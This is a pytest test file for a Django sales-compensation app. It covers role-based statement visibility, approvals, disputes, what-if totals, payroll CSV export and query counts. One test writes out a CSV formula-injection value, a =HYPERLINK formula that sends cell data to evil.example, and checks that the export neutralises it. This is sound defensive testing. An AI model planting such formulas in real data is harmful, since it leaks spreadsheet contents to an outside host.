"""Compensation pages: who sees which statement, approval, disputes, what-if, payroll.

Statements (conftest ``paid``): "a" for rep_a, "se" for se_a (both under manager_a), "b" for
rep_b (under manager_b), in one processed FY2026 Q1 run.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from compensation import services
from compensation.models import Dispute, PayoutRun, Statement
from salesmgmt.models import User
from tests.compensation.factories import won_deal

VISIBLE = {
    "rep_a": {"a"},
    "se_a": {"se"},
    "rep_b": {"b"},
    "manager_a": {"a", "se"},
    "manager_b": {"b"},
    "executive": {"a", "se", "b"},
    "admin": {"a", "se", "b"},
}
PEOPLE = sorted(VISIBLE)


@pytest.mark.parametrize("who", PEOPLE)
def test_statement_detail_is_404_outside_visibility(client, personas, paid, who):
    client.force_login(personas[who])

    for key in ("a", "se", "b"):
        response = client.get(reverse("compensation:statement_detail", args=[paid[key].pk]))

        assert response.status_code == (200 if key in VISIBLE[who] else 404), (who, key)


@pytest.mark.parametrize("who", PEOPLE)
def test_team_page_lists_only_visible_statements(client, personas, paid, who):
    client.force_login(personas[who])

    response = client.get(reverse("compensation:team_statements"))

    shown = {s.pk for s in response.context["statements"]}
    expected = {paid[k].pk for k in VISIBLE[who]} - {
        s.pk for s in Statement.objects.filter(rep=personas[who])
    }
    assert shown == expected


def test_my_statements_shows_only_my_own(client, rep_a, paid):
    client.force_login(rep_a)

    response = client.get(reverse("compensation:my_statements"))

    assert [s.pk for s in response.context["statements"]] == [paid["a"].pk]
    assert b"11800.00" in response.content


def test_statement_page_explains_each_line(client, rep_a, paid):
    client.force_login(rep_a)

    response = client.get(reverse("compensation:statement_detail", args=[paid["a"].pk]))

    assert b"5,000.00 at 8%" in response.content
    assert b"Dispute this line" in response.content
    assert b"Approve and lock" not in response.content


def test_integrators_cannot_use_the_pages(client, integrator, paid):
    client.force_login(integrator)

    assert client.get(reverse("compensation:my_statements")).status_code == 403


def test_manager_approves_on_the_page(client, manager_a, paid):
    client.force_login(manager_a)
    url = reverse("compensation:statement_approve", args=[paid["a"].pk])

    response = client.post(url)

    assert response.status_code == 302
    paid["a"].refresh_from_db()
    assert paid["a"].is_locked
    # a second approval is refused on the page with the service's message
    again = client.post(url)
    assert again.status_code == 409
    assert b"already approved" in again.content


def test_rep_cannot_approve_their_own_statement(client, rep_a, paid):
    client.force_login(rep_a)

    response = client.post(reverse("compensation:statement_approve", args=[paid["a"].pk]))

    assert response.status_code == 403
    assert Statement.objects.get(pk=paid["a"].pk).status == Statement.Status.PROCESSED


def test_manager_adjusts_a_locked_statement_on_the_page(client, manager_a, paid):
    services.statement_approve(actor=manager_a, statement=paid["a"])
    client.force_login(manager_a)
    url = reverse("compensation:statement_adjust", args=[paid["a"].pk])

    assert client.post(url, {"amount": "250", "reason": ""}).status_code == 400
    response = client.post(url, {"amount": "250", "reason": "Missed SPIF"})

    assert response.status_code == 302
    assert paid["a"].adjustments.get().amount == Decimal("250.00")


def test_rep_disputes_a_line_and_manager_resolves_it_on_the_pages(client, rep_a, manager_a, paid):
    line = paid["a"].lines.first()
    client.force_login(rep_a)

    response = client.post(
        reverse("compensation:line_dispute", args=[line.pk]), {"text": "Rate should be 12%"}
    )

    assert response.status_code == 302
    dispute = Dispute.objects.get(line=line)
    client.force_login(manager_a)
    listing = client.get(reverse("compensation:dispute_list"))
    assert [d.pk for d in listing.context["disputes"]] == [dispute.pk]
    resolved = client.post(
        reverse("compensation:dispute_resolve", args=[dispute.pk]), {"note": "Rate is right"}
    )
    assert resolved.status_code == 302
    dispute.refresh_from_db()
    assert dispute.status == Dispute.Status.RESOLVED


@pytest.mark.parametrize(("who", "expected"), [("manager_a", 403), ("rep_b", 404)])
def test_only_the_rep_disputes_their_lines(client, personas, paid, who, expected):
    client.force_login(personas[who])

    response = client.post(
        reverse("compensation:line_dispute", args=[paid["a"].lines.first().pk]), {"text": "?"}
    )

    assert response.status_code == expected


def test_whatif_page_without_deals_shows_the_statement_total(client, rep_a, paid, q1):
    client.force_login(rep_a)

    response = client.post(reverse("compensation:whatif"), {"period": q1.pk})

    assert response.status_code == 200
    assert response.context["result"].total == paid["a"].total_amount


def test_whatif_page_adds_deals(client, rep_a, paid, q1):
    client.force_login(rep_a)

    response = client.post(
        reverse("compensation:whatif"),
        {
            "period": q1.pk,
            "name_0": "Next big one",
            "amount_0": "10000",
            "closed_on_0": "2026-03-30",
        },
    )

    assert response.context["result"].total == paid["a"].total_amount + Decimal("1200.00")
    assert b"Next big one (what-if)" in response.content


def test_whatif_page_refuses_a_day_outside_the_period(client, rep_a, paid, q1):
    client.force_login(rep_a)

    response = client.post(
        reverse("compensation:whatif"),
        {"period": q1.pk, "amount_0": "10000", "closed_on_0": "2026-07-01"},
    )

    assert response.status_code == 400
    assert response.context["result"] is None


def test_plans_page_lists_plans_in_three_queries(client, rep_a, plan, django_assert_num_queries):
    client.force_login(rep_a)

    # session, user, plans, components, assignments, the bell's unread count
    with django_assert_num_queries(6):
        response = client.get(reverse("compensation:plan_list"))

    assert b"AE plan" in response.content


def test_payroll_csv_download(client, executive, paid, q1):
    client.force_login(executive)

    response = client.get(reverse("compensation:payroll_download", args=[q1.pk]))

    assert response["Content-Type"] == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    by_user = {row["username"]: row for row in rows}
    assert set(by_user) == {"rep_a", "se_a", "rep_b"}
    assert by_user["rep_a"]["payable_amount"] == "11800.00"
    assert by_user["rep_b"]["total_amount"] == "1200.00"


def test_payroll_csv_neutralises_formulas_like_every_csv_export(client, executive, paid, q1):
    rep = User.objects.get(username="rep_a")
    rep.first_name, rep.last_name = '=HYPERLINK("http://evil.example/?x="&A1', "x)"
    rep.email = "@SUM(1+1)@example.com"
    rep.save()
    client.force_login(executive)

    response = client.get(reverse("compensation:payroll_download", args=[q1.pk]))

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    [row] = [row for row in rows if row["username"] == "rep_a"]
    assert row["name"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1 x)'
    assert row["email"] == "'@SUM(1+1)@example.com"
    assert row["payable_amount"] == "11800.00"  # numbers stay numbers


def test_payroll_is_not_for_reps(client, rep_a, paid, q1):
    client.force_login(rep_a)

    assert client.get(reverse("compensation:payroll")).status_code == 403
    assert client.get(reverse("compensation:payroll_download", args=[q1.pk])).status_code == 403


def test_manager_payroll_covers_their_team(client, manager_a, paid, q1):
    client.force_login(manager_a)

    response = client.get(reverse("compensation:payroll"), {"period": q1.pk})

    assert {row.statement.rep.username for row in response.context["rows"]} == {"rep_a", "se_a"}


def test_executive_computes_and_processes_runs_from_the_team_page(
    client, executive, plan, quotas, q2, rep_a, process
):
    won_deal(rep_a, "1000", dt.date(2026, 4, 2))
    client.force_login(executive)

    response = client.post(reverse("compensation:run_compute"), {"period": q2.pk})

    assert response.status_code == 302
    run = PayoutRun.objects.get(period=q2)
    assert run.statements.get(rep=rep_a).total_amount == Decimal("40.00")
    client.post(reverse("compensation:run_process", args=[run.pk]))
    run.refresh_from_db()
    assert run.status == PayoutRun.Status.PROCESSED


def test_managers_cannot_run_payouts(client, manager_a, q2):
    client.force_login(manager_a)

    assert client.post(reverse("compensation:run_compute"), {"period": q2.pk}).status_code == 403


def test_team_page_query_count_does_not_grow_with_statements(client, executive, paid, q1, rep_a):
    client.force_login(executive)
    url = reverse("compensation:team_statements")

    with CaptureQueriesContext(connection) as few:
        client.get(url, {"period": q1.pk})
    for _ in range(3):
        services.payout_run_compute(period=q1, actor=executive)
        won_deal(rep_a, "10", dt.date(2026, 3, 3))
    services.payout_run_compute(period=q1, actor=executive)
    with CaptureQueriesContext(connection) as many:
        response = client.get(url, {"period": q1.pk})

    assert len(response.context["statements"]) > 3
    # session, user, the chosen period, the page of statements (with period, rep, plan and
    # subquery totals; no COUNT while they fit on the first page), the period's runs, the
    # period filter's choices, the bell's unread count
    assert len(many) == len(few) == 7


def test_statement_page_query_count_does_not_grow_with_lines(
    client, rep_a, paid, django_assert_max_num_queries
):
    client.force_login(rep_a)

    # session, user, statement, lines (+ deal, component, linked line), disputes, adjustments,
    # the bell's unread count
    with django_assert_max_num_queries(7):
        client.get(reverse("compensation:statement_detail", args=[paid["a"].pk]))


def test_whatif_page_opens_on_the_current_quarter(client, rep_a, periods):
    client.force_login(rep_a)

    response = client.get(reverse("compensation:whatif"))

    assert response.status_code == 200
    assert response.context["result"] is None
    assert b"Deal 1 amount" in response.content


def test_dispute_list_query_count_does_not_grow(client, rep_a, manager_a, paid):
    lines = list(paid["a"].lines.order_by("position"))
    services.dispute_raise(actor=rep_a, line=lines[0], text="One")
    client.force_login(manager_a)
    url = reverse("compensation:dispute_list")

    with CaptureQueriesContext(connection) as few:
        client.get(url)
    for line in lines[1:]:
        services.dispute_raise(actor=rep_a, line=line, text="More")
    with CaptureQueriesContext(connection) as many:
        response = client.get(url)

    assert len(response.context["disputes"]) == len(lines)
    # session, user, the page of disputes with line, statement, rep, period, deal and people
    # joined (no COUNT while they fit on the first page), the bell's unread count
    assert len(many) == len(few) == 4
